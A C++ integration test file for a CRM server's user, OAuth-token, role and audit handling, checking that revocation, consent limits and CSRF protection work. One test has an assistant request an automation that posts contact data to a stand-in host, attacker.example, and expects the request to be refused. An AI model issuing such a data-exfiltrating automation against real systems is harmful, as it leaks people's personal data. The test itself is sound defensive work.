// People and their access over time, driven as an operator, an administrator, a person
// and their assistant would: a real crmd on port 0, the real crmctl binary against its
// database, browsers signing in on the console, assistants through the whole OAuth flow
// (registration, login, consent, code, refresh) and /mcp (docs/oauth-authorize.md
// "People and roles", docs/operations.md "People").
#include <gtest/gtest.h>

#include <string>
#include <vector>

#include "src/app/services.h"
#include "tests/integration/crmctl/run_crmctl.h"
#include "tests/integration/webhooks/receiver.h"
#include "tests/support/browser.h"
#include "tests/support/mcp_client.h"
#include "tests/support/tokens.h"
#include "tests/support/wait.h"

namespace crmd::testing {
namespace {

using nlohmann::json;

constexpr const char* kPassword = "correct horse battery staple";
constexpr const char* kNewPassword = "another horse entirely";

class People : public ::testing::Test {
 protected:
  People() : server_(TestServerOptions{.approval_policy = AssistantMayConfirmAlone()}) {}

  // crmctl against the server's own database, with `line` on its stdin when given.
  CtlRun Ctl(const std::string& args, const std::string& line = "") {
    std::string cmd;
    if (!line.empty()) cmd = "printf '%s\\n' '" + line + "' | ";
    cmd += std::string(CRMD_BINARY_DIR) +
           "/src/app/crmctl '--database_url=" + server_.database_url() + "' " + args + " 2>&1";
    return RunCommand(cmd);
  }

  // An assistant named `client_name` signed in for `email` through the whole OAuth flow.
  OAuthFlowResult Assistant(const std::string& email, const std::string& scope,
                            const std::string& client_name = "Claude Desktop") {
    OAuthFlowResult flow = RunOAuthFlow(server_, {.email = email,
                                                  .password = kPassword,
                                                  .create_user = false,
                                                  .scope = scope,
                                                  .client_name = client_name});
    EXPECT_TRUE(flow.ok()) << flow.error;
    return flow;
  }

  // Whether /mcp accepts `token` (the bearer guard answers 401 before anything else).
  bool TokenWorks(const std::string& token) {
    http::Headers headers = BearerHeaders(token);
    headers.emplace_back("Accept", "application/json, text/event-stream");
    auto r = server_.PostJson("/mcp",
                              json{{"jsonrpc", "2.0"},
                                   {"id", 1},
                                   {"method", "initialize"},
                                   {"params",
                                    {{"protocolVersion", "2025-11-25"},
                                     {"capabilities", json::object()},
                                     {"clientInfo", {{"name", "t"}, {"version", "1"}}}}}},
                              headers);
    return r.status == 200;
  }
  // Waits for the revocation snapshot (crmctl changed the database from another process).
  bool TokenRefusedSoon(const std::string& token) {
    return WaitUntil([&] { return !TokenWorks(token); }, 8);
  }

  http::ClientResponse Refresh(const OAuthFlowResult& flow) {
    return server_.PostForm("/oauth/token", EncodeForm({{"grant_type", "refresh_token"},
                                                        {"refresh_token", flow.refresh_token},
                                                        {"client_id", flow.client_id}}));
  }

  // A browser signed in on the console as `email`.
  std::unique_ptr<Browser> Console(const std::string& email,
                                   const std::string& password = kPassword) {
    auto b = std::make_unique<Browser>(server_);
    Page after = SignInToConsole(*b, email, password);
    EXPECT_EQ(after.status, 200) << after.body;
    return b;
  }
  // Whether the browser's session still opens the console.
  bool SignedIn(Browser& b) {
    b.set_follow_redirects(false);
    Page p = b.Get("/console");
    b.set_follow_redirects(true);
    return p.status == 200;
  }
  int ConsoleSignInStatus(const std::string& email, const std::string& password) {
    Browser b(server_);
    return SignInToConsole(b, email, password).status;
  }

  int64_t Count(const std::string& sql, const std::vector<store::Value>& params = {}) {
    auto n = server_.app().services().db->Read([&](store::Conn& c) -> Result<int64_t> {
      auto row = c.QueryOne(sql, params);
      if (!row) return Fail(row.error());
      return (*row)->Int(0);
    });
    EXPECT_TRUE(n.has_value());
    return n ? *n : -1;
  }

  int64_t UserId(const std::string& email) {
    auto u = server_.app().services().users->FindByEmail(email);
    EXPECT_TRUE(u && *u) << email;
    return u && *u ? (*u)->id : 0;
  }

  TestServer server_;
};

// A password change ends everything the old password opened: the console session, the
// assistant's access token and refresh token; crmctl names the assistant that must sign in
// again, and only the new password signs in.
TEST_F(People, PasswordChangeEndsSessionsAndGrantsAndNamesTheAssistants) {
  ASSERT_EQ(Ctl("user create alice@example.com", kPassword).status, 0);
  OAuthFlowResult flow = Assistant("alice@example.com", "contacts:read", "Claude Desktop");
  ASSERT_TRUE(flow.ok());
  auto browser = Console("alice@example.com");
  ASSERT_TRUE(SignedIn(*browser));
  ASSERT_TRUE(TokenWorks(flow.access_token));

  CtlRun changed = Ctl("user password alice@example.com", kNewPassword);
  ASSERT_EQ(changed.status, 0) << changed.out;
  EXPECT_NE(changed.out.find("Claude Desktop"), std::string::npos) << changed.out;
  EXPECT_NE(changed.out.find("sign in again"), std::string::npos) << changed.out;

  EXPECT_FALSE(SignedIn(*browser)) << "the old crmd_session cookie still opens the console";
  EXPECT_TRUE(TokenRefusedSoon(flow.access_token)) << "the old access token still works";
  auto refreshed = Refresh(flow);
  EXPECT_EQ(refreshed.status, 400) << refreshed.body;
  EXPECT_EQ(JsonBody(refreshed).value("error", ""), "invalid_grant") << refreshed.body;
  EXPECT_EQ(ConsoleSignInStatus("alice@example.com", kPassword), 401);
  EXPECT_EQ(ConsoleSignInStatus("alice@example.com", kNewPassword), 200);
}

// Disabling ends sessions and grants at once and refuses sign-in (console and the OAuth
// login page) with the right password; enabling lets the person in again.
TEST_F(People, DisabledPersonIsSignedOutAndCannotSignInUntilEnabled) {
  ASSERT_EQ(Ctl("user create bob@example.com --role editor", kPassword).status, 0);
  OAuthFlowResult flow = Assistant("bob@example.com", "contacts:read contacts:write", "Cursor");
  ASSERT_TRUE(flow.ok());
  auto browser = Console("bob@example.com");

  CtlRun disabled = Ctl("user disable bob@example.com");
  ASSERT_EQ(disabled.status, 0) << disabled.out;
  EXPECT_NE(disabled.out.find("Cursor"), std::string::npos) << disabled.out;
  EXPECT_FALSE(SignedIn(*browser));
  EXPECT_TRUE(TokenRefusedSoon(flow.access_token));
  EXPECT_EQ(JsonBody(Refresh(flow)).value("error", ""), "invalid_grant");
  EXPECT_EQ(ConsoleSignInStatus("bob@example.com", kPassword), 401);
  OAuthFlowResult again = RunOAuthFlow(
      server_, {.email = "bob@example.com", .password = kPassword, .create_user = false});
  EXPECT_FALSE(again.ok()) << "a disabled person completed an OAuth sign-in";
  EXPECT_NE(Ctl("user list").out.find("bob@example.com\teditor\tdisabled"), std::string::npos);

  ASSERT_EQ(Ctl("user enable bob@example.com").status, 0);
  EXPECT_EQ(ConsoleSignInStatus("bob@example.com", kPassword), 200);
  EXPECT_TRUE(Assistant("bob@example.com", "contacts:read").ok());
}

// Deleting keeps the audit trail: the person's actions stay in the log, shown as
// "deleted user #N" in crmctl audit and on the console's Audit page; the email is free.
TEST_F(People, DeletedPersonsActionsStayInTheAuditLogAsDeletedUser) {
  ASSERT_EQ(Ctl("user create carol@example.com", kPassword).status, 0);
  const int64_t carol = UserId("carol@example.com");
  OAuthFlowResult flow = Assistant("carol@example.com", "contacts:write");
  McpClient c(server_, McpClientOptions{.token = flow.access_token});
  ASSERT_TRUE(c.Initialize().ok());
  c.CallToolOk("create_contact", {{"email", "kept@example.com"}});

  CtlRun deleted = Ctl("user delete carol@example.com");
  ASSERT_EQ(deleted.status, 0) << deleted.out;
  EXPECT_TRUE(TokenRefusedSoon(flow.access_token));
  EXPECT_EQ(ConsoleSignInStatus("carol@example.com", kPassword), 401);
  EXPECT_EQ(Ctl("user list").out.find("carol@example.com"), std::string::npos);

  const std::string label = "deleted user #" + std::to_string(carol);
  CtlRun audit = Ctl("audit --limit 20");
  ASSERT_EQ(audit.status, 0) << audit.out;
  EXPECT_NE(audit.out.find(label), std::string::npos) << audit.out;
  EXPECT_EQ(Count("SELECT COUNT(*) FROM audit_log WHERE action = 'create_contact' AND subject = ?",
                  {std::to_string(carol)}),
            1);
  ASSERT_TRUE(server_.app().services().users->Create("root@example.com", kPassword, true));
  auto admin = Console("root@example.com");
  Page page = admin->Get("/console/audit?action=create_contact");
  EXPECT_EQ(page.status, 200);
  EXPECT_NE(page.body.find(label), std::string::npos) << page.body;

  // The email can be given to someone new, who is not the deleted person.
  CtlRun recreated = Ctl("user create carol@example.com", kNewPassword);
  ASSERT_EQ(recreated.status, 0) << recreated.out;
  EXPECT_NE(UserId("carol@example.com"), carol);
}

// Every change to a person is an audit row, by crmctl; unknown people and roles are
// refused with a message and a non-zero exit; the last administrator stays.
TEST_F(People, EveryChangeToAPersonIsAnAuditRow) {
  ASSERT_EQ(Ctl("user create dan@example.com --role viewer", kPassword).status, 0);
  ASSERT_EQ(Ctl("user password dan@example.com", kNewPassword).status, 0);
  ASSERT_EQ(Ctl("user role dan@example.com editor").status, 0);
  ASSERT_EQ(Ctl("user disable dan@example.com").status, 0);
  ASSERT_EQ(Ctl("user enable dan@example.com").status, 0);
  const int64_t dan = UserId("dan@example.com");
  ASSERT_EQ(Ctl("user delete dan@example.com").status, 0);
  for (const char* action : {"create_user", "change_password", "change_role", "disable_user",
                             "enable_user", "delete_user"})
    EXPECT_EQ(Count("SELECT COUNT(*) FROM audit_log WHERE action = ? AND target_type = 'user' "
                    "AND target_ids = ? AND actor_kind = 'cli'",
                    {std::string(action), "[" + std::to_string(dan) + "]"}),
              1)
        << action;

  CtlRun unknown = Ctl("user disable nobody@example.com");
  EXPECT_NE(unknown.status, 0);
  EXPECT_NE(unknown.out.find("no such user"), std::string::npos) << unknown.out;
  CtlRun bad_role = Ctl("user role admin@localhost owner");
  EXPECT_NE(bad_role.status, 0);
  EXPECT_NE(bad_role.out.find("unknown role"), std::string::npos) << bad_role.out;
  // admin@localhost (created at first start) is the only administrator.
  for (const char* verb : {"disable", "delete"}) {
    CtlRun last = Ctl(std::string("user ") + verb + " admin@localhost");
    EXPECT_NE(last.status, 0) << verb;
    EXPECT_NE(last.out.find("last active administrator"), std::string::npos) << last.out;
  }
  EXPECT_NE(Ctl("user role admin@localhost editor").status, 0);
  EXPECT_EQ(*server_.app().services().users->CountAdmins(), 1);
}

// Consent never grants beyond the role: a viewer asked for write access is offered and
// granted only the read scope; asked for write access alone, they are refused.
TEST_F(People, ConsentNeverGrantsBeyondTheRole) {
  ASSERT_EQ(Ctl("user create vera@example.com --role viewer", kPassword).status, 0);
  std::vector<std::string> offered;
  OAuthFlowResult flow =
      RunOAuthFlow(server_, {.email = "vera@example.com",
                             .password = kPassword,
                             .create_user = false,
                             .scope = "contacts:read contacts:write",
                             .on_consent = [&](Form& f) { offered = f.Options("scope"); }});
  ASSERT_TRUE(flow.ok()) << flow.error;
  EXPECT_EQ(offered, std::vector<std::string>{"contacts:read"});
  EXPECT_EQ(flow.scope, "contacts:read");
  McpClient c(server_, McpClientOptions{.token = flow.access_token});
  ASSERT_TRUE(c.Initialize().ok());
  EXPECT_TRUE(c.CallTool("create_contact", {{"email", "no@example.com"}}).status != 200 ||
              c.CallTool("create_contact", {{"email", "no@example.com"}}).is_tool_error());
  EXPECT_EQ(Count("SELECT COUNT(*) FROM contacts WHERE email = 'no@example.com'"), 0);
  // Asking a viewer for nothing but write access ends on an error page, no code.
  OAuthFlowResult write_only = RunOAuthFlow(server_, {.email = "vera@example.com",
                                                      .password = kPassword,
                                                      .create_user = false,
                                                      .scope = "contacts:write"});
  EXPECT_FALSE(write_only.ok());
  EXPECT_TRUE(write_only.access_token.empty());
  // An editor cannot be granted settings:write.
  ASSERT_EQ(Ctl("user create ed@example.com", kPassword).status, 0);
  OAuthFlowResult editor = Assistant("ed@example.com", "settings:read settings:write");
  EXPECT_EQ(editor.scope, "settings:read");
}

// A demotion ends the grants the new role does not cover: the assistant's tokens stop
// working and its refresh token does not bring the scopes back; signing in again offers
// what the new role allows. A grant within the new role is kept.
TEST_F(People, ADemotedPersonsRefreshDoesNotRegainScopes) {
  ASSERT_EQ(Ctl("user create erin@example.com", kPassword).status, 0);
  OAuthFlowResult wide = Assistant("erin@example.com", "contacts:read contacts:write", "Wide");
  OAuthFlowResult narrow = Assistant("erin@example.com", "contacts:read", "Narrow");
  ASSERT_EQ(wide.scope, "contacts:read contacts:write");

  CtlRun demoted = Ctl("user role erin@example.com viewer");
  ASSERT_EQ(demoted.status, 0) << demoted.out;
  EXPECT_NE(demoted.out.find("Wide"), std::string::npos) << demoted.out;
  EXPECT_EQ(demoted.out.find("Narrow"), std::string::npos) << demoted.out;

  EXPECT_TRUE(TokenRefusedSoon(wide.access_token));
  auto refreshed = Refresh(wide);
  EXPECT_EQ(refreshed.status, 400) << refreshed.body;
  EXPECT_TRUE(JsonBody(refreshed).value("access_token", "").empty()) << refreshed.body;
  auto kept = Refresh(narrow);
  ASSERT_EQ(kept.status, 200) << kept.body;
  EXPECT_EQ(JsonBody(kept).value("scope", ""), "contacts:read");
  OAuthFlowResult again = Assistant("erin@example.com", "contacts:read contacts:write", "Wide");
  EXPECT_EQ(again.scope, "contacts:read");
}

// Administrators manage people in the console with the console's forms (session, CSRF):
// add a person, change a role, disable (which signs them out and names their assistants),
// enable, delete; not themselves; others cannot open the page.
TEST_F(People, AdministratorsManagePeopleInTheConsole) {
  auto& users = *server_.app().services().users;
  ASSERT_TRUE(users.Create("root@example.com", kPassword, true));
  auto admin = Console("root@example.com");
  Page page = admin->Get("/console/people");
  ASSERT_EQ(page.status, 200) << page.body;
  auto first_form = page.form();
  ASSERT_TRUE(first_form);
  const std::string csrf = first_form->Value("csrf_token").value_or("");
  ASSERT_FALSE(csrf.empty());

  Page created = admin->PostForm("/console/people", {{"csrf_token", csrf},
                                                     {"action", "create"},
                                                     {"email", "fay@example.com"},
                                                     {"password", kPassword},
                                                     {"role", "viewer"}});
  EXPECT_EQ(created.status, 200) << created.body;  // back on the list
  EXPECT_NE(created.body.find("fay@example.com"), std::string::npos);
  const int64_t fay = UserId("fay@example.com");
  const std::string id = std::to_string(fay);
  OAuthFlowResult flow = Assistant("fay@example.com", "contacts:read", "Fay's assistant");
  auto fay_browser = Console("fay@example.com");
  EXPECT_EQ(fay_browser->Get("/console/people").status, 403);  // not an administrator

  Page forged = admin->PostForm("/console/people",
                                {{"csrf_token", "wrong"}, {"action", "disable"}, {"id", id}});
  EXPECT_EQ(forged.status, 403);
  EXPECT_TRUE(SignedIn(*fay_browser));

  Page role =
      admin->PostForm("/console/people",
                      {{"csrf_token", csrf}, {"action", "role"}, {"id", id}, {"role", "editor"}});
  EXPECT_EQ(role.status, 200) << role.body;
  EXPECT_EQ((*users.FindById(fay))->role, auth::Role::kEditor);

  Page disabled =
      admin->PostForm("/console/people", {{"csrf_token", csrf}, {"action", "disable"}, {"id", id}});
  EXPECT_EQ(disabled.status, 200) << disabled.body;
  EXPECT_NE(disabled.body.find("Fay&#39;s assistant"), std::string::npos) << disabled.body;
  EXPECT_FALSE(SignedIn(*fay_browser));
  EXPECT_FALSE(TokenWorks(flow.access_token));  // this node's cache is told at once
  EXPECT_EQ(ConsoleSignInStatus("fay@example.com", kPassword), 401);

  Page enabled =
      admin->PostForm("/console/people", {{"csrf_token", csrf}, {"action", "enable"}, {"id", id}});
  EXPECT_EQ(enabled.status, 200) << enabled.body;
  EXPECT_EQ(ConsoleSignInStatus("fay@example.com", kPassword), 200);

  const std::string self = std::to_string(UserId("root@example.com"));
  Page own = admin->PostForm("/console/people",
                             {{"csrf_token", csrf}, {"action", "disable"}, {"id", self}});
  EXPECT_EQ(own.status, 400) << own.body;
  EXPECT_TRUE(SignedIn(*admin));

  Page removed =
      admin->PostForm("/console/people", {{"csrf_token", csrf}, {"action", "delete"}, {"id", id}});
  EXPECT_EQ(removed.status, 200) << removed.body;
  EXPECT_EQ(admin->Get("/console/people").body.find("fay@example.com"), std::string::npos);
  for (const char* action :
       {"create_user", "change_role", "disable_user", "enable_user", "delete_user"})
    EXPECT_EQ(Count("SELECT COUNT(*) FROM audit_log WHERE action = ? AND actor_kind = 'user' "
                    "AND subject = ?",
                    {std::string(action), self}),
              1)
        << action;
}

// A call_webhook step follows the rule of outgoing webhooks: an assistant cannot make an
// automation post contact data to a URL of its choosing, only to an outgoing webhook
// endpoint an administrator set up.
TEST_F(People, CallWebhookStepsPostOnlyToOutgoingWebhookEndpoints) {
  McpClient c(server_, McpClientOptions{.token = MintTestToken(server_)});
  ASSERT_TRUE(c.Initialize().ok());
  auto automation = [&](const std::string& url) {
    return c.CallTool("create_automation",
                      {{"name", "Exfiltrate " + url},
                       {"trigger", {{"type", "contact_created"}}},
                       {"steps", json::array({{{"type", "call_webhook"}, {"url", url}}})}});
  };
  McpReply refused = automation("https://attacker.example/collect");
  ASSERT_TRUE(refused.is_tool_error()) << refused.raw;
  EXPECT_NE(refused.raw.find("steps[0].url"), std::string::npos) << refused.raw;
  EXPECT_EQ(Count("SELECT COUNT(*) FROM automations"), 0);

  auto endpoint = server_.app().services().webhook_endpoints->Create(
      {.url = "https://hooks.example.com/crm",
       .events = std::vector<std::string>{"contact.created"}});
  ASSERT_TRUE(endpoint) << endpoint.error().message;
  McpReply allowed = automation("https://hooks.example.com/crm");
  EXPECT_FALSE(allowed.is_tool_error()) << allowed.raw;
  EXPECT_EQ(Count("SELECT COUNT(*) FROM automations"), 1);
}

// An automation saved while its URL was an endpoint's does not keep posting once the
// endpoint is gone: the step fails and nothing reaches the URL.
TEST(PeopleWebhooks, ACallWebhookStepWhoseEndpointIsGoneFailsWithoutPosting) {
  webhooktest::Receiver target;
  TestServer server({.configure =
                         [](Config& c) {
                           c.mail_poll_interval_ms = 100;
                           c.allow_private_network_targets = true;
                         },
                     .approval_policy = AssistantMayConfirmAlone()});
  auto& endpoints = *server.app().services().webhook_endpoints;
  auto endpoint = endpoints.Create({.url = target.url(),
                                    .events = std::vector<std::string>{"contact.deleted"},
                                    .enabled = false});
  ASSERT_TRUE(endpoint) << endpoint.error().message;
  McpClient c(server, McpClientOptions{.token = MintTestToken(server)});
  ASSERT_TRUE(c.Initialize().ok());
  int64_t tag = c.CallToolOk("create_tag", {{"name", "after"}})["tag"]["id"];
  int64_t automation = c.CallToolOk(
      "create_automation",
      {{"name", "Post"},
       {"trigger", {{"type", "contact_created"}}},
       {"steps", json::array({{{"type", "call_webhook"}, {"url", target.url()}},
                              {{"type", "add_tag"}, {"tag_id", tag}}})}})["automation"]["id"];
  json preview = c.CallToolOk("activate_automation", {{"id", automation}});
  c.CallToolOk("confirm_action", {{"confirmation_token", preview["confirmation_token"]}});
  ASSERT_TRUE(endpoints.Delete(endpoint->first.id));

  c.CallToolOk("create_contact", {{"email", "ada@example.com"}, {"status", "subscribed"}});
  auto count = [&](const std::string& sql) {
    auto n = server.app().services().db->Read([&](store::Conn& conn) -> Result<int64_t> {
      auto row = conn.QueryOne(sql, {automation});
      if (!row) return Fail(row.error());
      return *row ? (*row)->Int(0) : 0;
    });
    return n ? *n : -1;
  };
  EXPECT_TRUE(WaitUntil(
      [&] {
        return count(
                   "SELECT failed FROM automation_step_stats WHERE automation_id = ? AND "
                   "step_index = 0") == 1;
      },
      30));
  // The run went on to the next step, and the URL was never called.
  EXPECT_TRUE(WaitUntil(
      [&] {
        return count(
                   "SELECT done FROM automation_step_stats WHERE automation_id = ? AND "
                   "step_index = 1") == 1;
      },
      30));
  EXPECT_TRUE(target.requests().empty());
}

}  // namespace
}  // namespace crmd::testing
